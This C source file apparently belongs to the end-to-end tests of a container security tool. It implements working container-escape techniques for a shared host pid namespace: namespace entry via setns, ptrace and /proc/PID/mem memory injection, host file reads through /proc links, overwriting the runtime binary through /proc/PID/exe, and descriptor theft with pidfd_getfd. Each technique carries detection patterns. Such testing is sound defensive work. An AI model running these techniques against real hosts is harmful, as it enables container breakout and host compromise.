/* SPDX-License-Identifier: Apache-2.0 */
/* Techniques that use processes of the host. The container shares the host's pid namespace. */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tests/e2e/escapes/techniques/technique.h"

#define VICTIM_FLAG_FD 9 /* descriptor of HOST_FLAG that the victim has open */

static int set_namespace(int victim)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);

	(void)victim;
	if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
		return errno;
	return flag_open(HOST_FLAG);
}

static int set_namespace_pidfd(int victim)
{
	int fd = (int)syscall(SYS_pidfd_open, 1, 0);

	(void)victim;
	if (fd < 0 || setns(fd, CLONE_NEWNS | CLONE_NEWUTS) < 0)
		return errno;
	return flag_open(HOST_FLAG);
}

static int attach_victim(int victim)
{
	long word = 0;
	int r = FAILED(ptrace(PTRACE_ATTACH, victim, NULL, NULL));

	if (r)
		return r;
	waitpid(victim, NULL, __WALL);
	memcpy(&word, FLAG, sizeof(word));
	r = FAILED(ptrace(PTRACE_POKEDATA, victim, WORLD_AT, word));
	ptrace(PTRACE_DETACH, victim, NULL, NULL);
	return r;
}

static int write_memory(int victim)
{
	char word[] = FLAG;
	/* NOLINTNEXTLINE(performance-no-int-to-ptr) */
	struct iovec from = {word, sizeof(word)}, to = {(void *)WORLD_AT, sizeof(word)};

	return FAILED(process_vm_writev(victim, &from, 1, &to, 1, 0));
}

static int write_memory_file(int victim)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", victim);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return errno;
	return FAILED(pwrite(fd, FLAG, sizeof(FLAG), WORLD_AT));
}

static bool is_word_changed(struct host *h)
{
	char word[sizeof(h->world->word)];

	for (size_t i = 0; i < sizeof(word); i++)
		word[i] = h->world->word[i];
	return memcmp(word, FLAG, sizeof(long)) == 0;
}

static int follow_root_link(int victim)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/root" HOST_FLAG, victim);
	return flag_open(path);
}

static int follow_cwd_link(int victim)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/cwd/flag", victim);
	return flag_open(path);
}

#define NAPS_MAX 12000 /* of 20 ms, four minutes in all: emulated machines are slow */

/*
 * Overwrites the program of a runtime's process. Opens the program while it runs. Then tries to
 * open it for writing until it no longer runs.
 */
static int overwrite_runtime(int victim)
{
	const struct timespec nap = {.tv_nsec = 20000000};
	char path[64], self[64];
	int fd, w = -1;

	snprintf(path, sizeof(path), "/proc/%d/exe", victim);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return errno;
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	for (int i = 0; i < NAPS_MAX && w < 0; i++) {
		w = open(self, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno != ETXTBSY)
			return errno;
		if (w < 0)
			clock_nanosleep(CLOCK_MONOTONIC, 0, &nap, NULL);
	}
	return FAILED(pwrite(w, FLAG, sizeof(FLAG), 0));
}

/*
 * Returns true if the program of a process is HOST_RUNTIME. It is not yet while the exec goes on.
 */
static bool runs_runtime(pid_t pid)
{
	char path[64], program[sizeof(HOST_RUNTIME) + 1];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return readlink(path, program, sizeof(program)) == (ssize_t)strlen(HOST_RUNTIME) &&
	       memcmp(program, HOST_RUNTIME, strlen(HOST_RUNTIME)) == 0;
}

/* Starts a copy of this program as the runtime. Returns its pid, or -1 after a message. */
static int start_runtime(struct host *h)
{
	char name[] = "runtime";
	char *const argv[] = {name, name, NULL}, *const envp[] = {NULL};
	pid_t pid;
	int r;

	(void)h;
	if (host_copy("/proc/self/exe", HOST_RUNTIME) < 0) {
		fprintf(stderr, "host: cannot copy the runtime: %s\n", strerror(errno));
		return -1;
	}
	r = posix_spawn(&pid, HOST_RUNTIME, NULL, NULL, argv, envp);
	if (r != 0) {
		fprintf(stderr, "host: cannot start the runtime: %s\n", strerror(r));
		return -1;
	}
	/* posix_spawn() returns shortly before the child has its new program. */
	while (!runs_runtime(pid) && waitpid(pid, NULL, WNOHANG) == 0)
		poll(NULL, 0, 1);
	return pid;
}

static bool is_runtime_changed(struct host *h)
{
	(void)h;
	return host_begins(HOST_RUNTIME, FLAG);
}

static int take_descriptor(int victim)
{
	int fd = (int)syscall(SYS_pidfd_open, victim, 0);

	if (fd < 0)
		return errno;
	return flag_read((int)syscall(SYS_pidfd_getfd, fd, VICTIM_FLAG_FD, 0));
}

static int signal_host(int victim)
{
	return FAILED(kill(victim, SIGUSR1));
}

bool was_signalled(struct host *h)
{
	return h->world->signals > 0;
}

/* The victim is the owner of a file of this process. */
static int signal_by_owner(int victim)
{
	const struct timespec pause_ns = {.tv_nsec = 20000000};
	int fd[2];

	if (pipe(fd) < 0 || fcntl(fd[0], F_SETSIG, SIGUSR1) < 0 ||
	    fcntl(fd[0], F_SETOWN, victim) < 0 || fcntl(fd[0], F_SETFL, O_ASYNC) < 0 ||
	    write(fd[1], "x", 1) < 0)
		return errno;
	for (int i = 0; i < 50 && access(SIGNALLED, F_OK) < 0; i++)
		nanosleep(&pause_ns, NULL);
	return access(SIGNALLED, F_OK) < 0 ? EPERM : 0;
}

static int remove_signalled(struct host *h)
{
	(void)h;
	unlink(HOST_DIR SIGNALLED);
	return 0;
}

const struct technique process_techniques[] = {
	{"setns", "T1611", "enters the mount namespace of process 1",
	 .seen = "ptrace_access_check-read|ns/mnt|mnt:", .also = "^setns ",
	 .stopped = "sys_ptrace|ptrace_access_check-read|mnt:|^setns ", .hook = "capable",
	 .run = set_namespace},
	{"setns_pidfd", "T1611", "enters namespaces of process 1 by pidfd", .seen = "^setns ",
	 .stopped = "^setns |^pidfd_open ", .hook = "capable", .run = set_namespace_pidfd},
	{"ptrace", "T1055.008", "attaches to a host process and changes its memory",
	 .seen = "^ptrace ", .hook = "capable", .run = attach_victim, .probe = is_word_changed},
	{"process_vm_writev", "T1055", "writes into a host process's memory",
	 .seen = "^process_vm_writev ", .hook = "capable", .run = write_memory,
	 .probe = is_word_changed},
	{"proc_mem", "T1055.009", "writes to a host process's /proc/PID/mem",
	 .seen = "open w file /proc/[0-9]*/mem|ptrace_access_check", .run = write_memory_file,
	 .probe = is_word_changed},
	{"proc_root", "T1611", "reads the host's files through /proc/PID/root",
	 .seen = "ptrace_access_check-read", .also = "open r file .*flag",
	 .stopped = "sys_ptrace|ptrace_access_check-read", .run = follow_root_link},
	{"proc_cwd", "T1611", "reads the host's files through /proc/PID/cwd",
	 .seen = "ptrace_access_check-read", .also = "open r file .*flag",
	 .stopped = "sys_ptrace|ptrace_access_check-read", .run = follow_cwd_link},
	{"overwrite_runtime", "T1554", "overwrites the runtime's program through /proc/PID/exe",
	 .seen = "open w file .*runtime", .also = "ptrace_access_check-read",
	 .stopped = "sys_ptrace|ptrace_access_check-read|runtime", .run = overwrite_runtime,
	 .prepare = start_runtime, .probe = is_runtime_changed},
	{"pidfd_getfd", "T1055", "takes an open file from a host process",
	 .seen = "ptrace_access_check", .stopped = "^pidfd_getfd |^pidfd_open ",
	 .run = take_descriptor},
	{"kill_host", "T1489", "signals a host process", .seen = "task_kill", .run = signal_host,
	 .probe = was_signalled},
	{"file_owner", "T1489", "signals a host process that it makes the owner of a file",
	 .seen = "task_kill", .run = signal_by_owner, .prepare = remove_signalled,
	 .probe = was_signalled},
	{0},
};
